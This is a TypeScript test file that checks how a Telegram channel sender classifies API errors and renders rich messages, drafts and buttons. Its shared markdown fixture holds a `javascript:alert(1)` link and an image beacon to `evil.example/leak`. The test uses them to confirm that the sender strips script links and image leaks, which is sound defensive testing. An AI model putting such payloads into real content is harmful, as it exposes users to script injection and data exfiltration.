import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { SendFailure } from '#core/outbox/channel-sender.ts';
import type { OutboundBody } from '#core/outbox/outbound.ts';
import { group, markdown, person, TelegramStage } from '../../support/telegram-stage.ts';

const table = `# Result\n\n| a | b |\n|---|--:|\n| 1 | ${'`2`'} |\n\n- [x] done\n- [ ] open\n\n<b>tag</b> [x](javascript:alert(1)) ![](https://evil.example/leak?d=1)`;

describe('what Telegram refuses', () => {
  let stage: TelegramStage;
  const send = async (body = markdown('words'), to = stage.dm) => await stage.channel.send(to, body, 'o1');
  const texts = (chat = person) => stage.fake.said(chat).map((message) => message.text);

  beforeEach(async () => {
    stage = await TelegramStage.open();
  });
  afterEach(async () => {
    await stage[Symbol.asyncDispose]();
  });

  /** One row of the error table: how it is brought about at the server, and what it means for the delivery. */
  const rows: readonly (readonly [string, (stage: TelegramStage) => Promise<unknown>, SendFailure['kind'] | 'done'])[] =
    [
      [
        '429 with a time to wait',
        async ({ fake, channel, dm }) => {
          fake.faults.next('sendMessage', { kind: 'throttle', retryAfter: 7 });
          return await channel.send(dm, markdown('x'), 'o');
        },
        'throttled',
      ],
      [
        'an edit that changes nothing',
        async ({ channel, dm }) =>
          await channel.edit(dm, await channel.send(dm, markdown('x'), 'o'), markdown('x'), 'p'),
        'done',
      ],
      [
        'an edit of a message that is gone',
        async ({ fake, channel, dm }) => {
          const ref = await channel.send(dm, markdown('x'), 'o');
          fake.people.deletes(person, Number(ref.ids[0]));
          return await channel.edit(dm, ref, markdown('y'), 'p');
        },
        'gone',
      ],
      [
        "an edit of somebody else's message",
        async ({ fake, channel, dm }) =>
          await channel.edit(dm, { ids: [String(fake.people.says(person, person, 'mine'))] }, markdown('y'), 'p'),
        'gone',
      ],
      [
        'a reply to a message that is gone',
        async ({ channel, dm }) => await channel.send(dm, { ...markdown('x'), replyTo: '999' }, 'o'),
        'done',
      ],
      [
        'a reply the server does not let go without its message',
        async ({ fake, channel, dm }) => {
          const description = 'Bad Request: message to be replied not found';
          fake.faults.next('sendMessage', { kind: 'status', code: 400, description });
          return await channel.send(dm, { ...markdown('x'), replyTo: '999' }, 'o');
        },
        'done',
      ],
      [
        'a closed topic',
        async ({ fake, channel, team }) => {
          fake.people.topic(group, 45, 'closed');
          return await channel.send({ ...team, thread: '45' }, markdown('x'), 'o');
        },
        'done',
      ],
      [
        'a topic that never was',
        async ({ channel, team }) => await channel.send({ ...team, thread: '46' }, markdown('x'), 'o'),
        'done',
      ],
      [
        'styles that cannot be parsed',
        async ({ fake, channel, dm }) => {
          const description = "Bad Request: can't parse entities: unsupported";
          fake.faults.next('sendMessage', { kind: 'status', code: 400, description });
          return await channel.send(dm, markdown('**x**'), 'o');
        },
        'done',
      ],
      [
        'a text that is too long',
        async ({ fake, channel, dm }) => {
          fake.faults.next('sendMessage', {
            kind: 'status',
            code: 400,
            description: 'Bad Request: message is too long',
          });
          return await channel.send(dm, markdown('x'), 'o');
        },
        'too_big',
      ],
      [
        'a press that is too old',
        async ({ channel }) => await channel.acknowledge('never-was', { text: 'x', isAlert: true }),
        'done',
      ],
      [
        'a group that is now a supergroup',
        async ({ fake, channel, team }) => {
          fake.people.migrates(group, -200);
          return await channel.send(team, markdown('x'), 'o');
        },
        'moved',
      ],
      [
        'a person who blocked the bot',
        async ({ fake, channel, dm }) => {
          fake.people.changesMembership(person, person, 'kicked');
          return await channel.send(dm, markdown('x'), 'o');
        },
        'unreachable',
      ],
      [
        'a group the bot was removed from',
        async ({ fake, channel, team }) => {
          fake.people.changesMembership(group, person, 'kicked');
          return await channel.send(team, markdown('x'), 'o');
        },
        'unreachable',
      ],
      [
        'a chat nobody opened',
        async ({ channel, dm }) => await channel.send({ ...dm, room: '404' }, markdown('x'), 'o'),
        'unreachable',
      ],
      ...(
        [
          ["Forbidden: bot can't initiate conversation with a user", 403, 'unreachable'],
          ['Forbidden: bot is not a member of the channel chat', 403, 'unreachable'],
          ['Forbidden: user is deactivated', 403, 'unreachable'],
          ['Unauthorized', 401, 'auth'],
          ['Conflict: terminated by other getUpdates request', 409, 'conflict'],
          ['Bad Gateway', 502, 'retry'],
          ['Gateway Timeout', 504, 'unknown_outcome'],
          ['Bad Request: something nobody has seen before', 400, 'bad_format'],
        ] as const
      ).map(
        ([description, code, kind]) =>
          [
            `${code} ${description}`,
            async ({ fake, channel, dm }: TelegramStage) => {
              fake.faults.next('sendMessage', { kind: 'status', code, description });
              return await channel.send(dm, markdown('x'), 'o');
            },
            kind,
          ] as const,
      ),
    ];

  it.each(rows.map(([what, bringAbout, kind]) => ({ what, bringAbout, kind })))(
    '$what means $kind',
    async ({ bringAbout, kind }) => {
      const outcome = await bringAbout(stage).then(
        () => 'done',
        (err: unknown) => stage.channel.classify(err).kind,
      );
      expect(outcome).toBe(kind);
    },
  );

  describe('rich messages', () => {
    it('tables, headings and task lists are real ones, and nothing of the text is read as markup', async () => {
      await send(markdown(table), stage.team);
      const [message] = stage.fake.said(group);
      const blocks = (message?.rich as { blocks: { type: string }[] } | undefined)?.blocks;
      expect(blocks?.map((block) => block.type)).toEqual(['heading', 'table', 'list', 'paragraph']);
      expect(message?.text).toBe('Result\n\na | b\n1 | 2\n\n☑ done\n☐ open\n\n<b>tag</b> x image');
      const wire = JSON.stringify(stage.fake.callsOf('sendRichMessage')[0]?.params);
      expect(wire).not.toMatch(/javascript:|"type":"photo"|"html"|"markdown"/);
      expect(wire).toContain('"skip_entity_detection":true');
      expect(stage.channel.capabilities(stage.team).tables).toBe('native');
    });

    it('prose stays a plain message, whatever signs are in it', async () => {
      await send(markdown('a | b\n\n#hashtag\n\n- item'));
      expect(stage.fake.callCounts.get('sendRichMessage')).toBeUndefined();
      expect(texts()).toEqual(['a | b\n\n#hashtag\n\n• item']);
    });

    it('buttons hang below, and an edit may turn one kind into the other', async () => {
      const card = (text: string): OutboundBody => ({
        parts: [
          { type: 'markdown', markdown: text },
          { type: 'buttons', rows: [[{ label: 'Go', token: 't' }]] },
        ],
      });
      const ref = await send(card(table));
      expect(stage.fake.said(person)[0]?.buttons).toMatchObject([{ text: 'Go' }]);
      expect(await stage.channel.edit(stage.dm, ref, card('plain'), 'o2')).toEqual(ref);
      expect(stage.fake.said(person)).toMatchObject([{ text: 'plain', rich: undefined }]);
      expect(await stage.channel.edit(stage.dm, ref, card(table), 'o3')).toEqual(ref);
      expect(await stage.channel.edit(stage.dm, ref, card(table), 'o4')).toEqual(ref);
      expect(stage.fake.said(person)).toMatchObject([{ rich: expect.anything(), edits: 2 }]);
    });

    it('a server that does not know them is asked once and gets plain ones', async () => {
      for (const method of ['sendRichMessage', 'sendRichMessageDraft']) stage.fake.state.missingMethods.add(method);
      await send(markdown(table));
      await send(markdown(table));
      await stage.channel.draft(stage.dm, 7, table);
      await stage.channel.draft(stage.dm, 7, table);
      expect(stage.fake.said(person).map((message) => message.entities[0]?.type)).toEqual(['bold', 'bold']);
      expect(stage.fake.callCounts.get('sendRichMessage')).toBe(1);
      expect(stage.fake.callCounts.get('sendRichMessageDraft')).toBe(1);
      expect(stage.fake.drafts(person).length).toBe(2);
      expect(stage.channel.capabilities(stage.dm).tables).toBe('code');
    });

    it('where they are switched off none is tried', async () => {
      await using plain = await TelegramStage.open({ hasRichMessages: false });
      await plain.channel.draft(plain.dm, 7, table);
      await plain.channel.send(plain.dm, markdown(table), 'o1');
      expect(plain.fake.callsOf('sendRichMessage').concat(plain.fake.callsOf('sendRichMessageDraft'))).toEqual([]);
      expect(plain.channel.capabilities(plain.dm).tables).toBe('code');
    });

    it('one that is refused goes in plain words, and the next is tried again', async () => {
      const description = 'Bad Request: RICH_MESSAGE_INVALID';
      stage.fake.faults.next('sendRichMessage', { kind: 'status', code: 400, description });
      await send(markdown(table));
      await send(markdown(table));
      expect(stage.fake.said(person).map((message) => message.rich !== undefined)).toEqual([false, true]);
    });

    it('what exceeds their limits goes as plain messages', async () => {
      const wide = (columns: number) =>
        ['|', '|', '|'].map((row, line) => `${row}${(line === 1 ? '-|' : 'x|').repeat(columns)}`).join('\n');
      await send(markdown(wide(21)));
      await send(markdown(`# many\n\n${'- item\n'.repeat(600)}`));
      await send(
        markdown(`# deep\n\n${Array.from({ length: 12 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')}`),
      );
      await send(markdown(`# long\n\n${'word '.repeat(7_000)}`));
      expect(stage.fake.callCounts.get('sendRichMessage')).toBeUndefined();
      await send(markdown(wide(20)));
      expect(stage.fake.callCounts.get('sendRichMessage')).toBe(1);
    });

    it('a preview shows them too, and is replaced by the message', async () => {
      await stage.channel.draft(stage.dm, 7, '# Res');
      await stage.channel.draft(stage.dm, 7, table);
      expect(stage.fake.drafts(person).map(({ text }) => text.split('\n')[0])).toEqual(['Res', 'Result']);
      expect(stage.fake.callsOf('sendRichMessageDraft')[0]?.params).toMatchObject({
        can_stop: true,
        keep_on_stop: true,
      });
      await send(markdown(table));
      expect(stage.fake.liveDraft(person)).toBeUndefined();
    });
  });

  it('a draft nobody keeps up is gone after its time, and leaves no message', async () => {
    let now = Date.now();
    await using later = await TelegramStage.open({ now: () => now });
    await later.channel.draft(later.dm, 7, 'half an answer');
    expect(later.fake.liveDraft(person)).toMatchObject({ text: 'half an answer' });
    now += 30_001;
    expect(later.fake.liveDraft(person)).toBeUndefined();
    expect(later.fake.said(person)).toEqual([]);
    await later.channel.draft(later.dm, 7, 'half an answer, and more');
    expect(later.fake.liveDraft(person)).toMatchObject({ text: 'half an answer, and more' });
    await later.channel.send(later.dm, markdown('the answer'), 'o1');
    expect(later.fake.said(person).length).toBe(1);
    expect(later.fake.liveDraft(person)).toBeUndefined();
  });
});
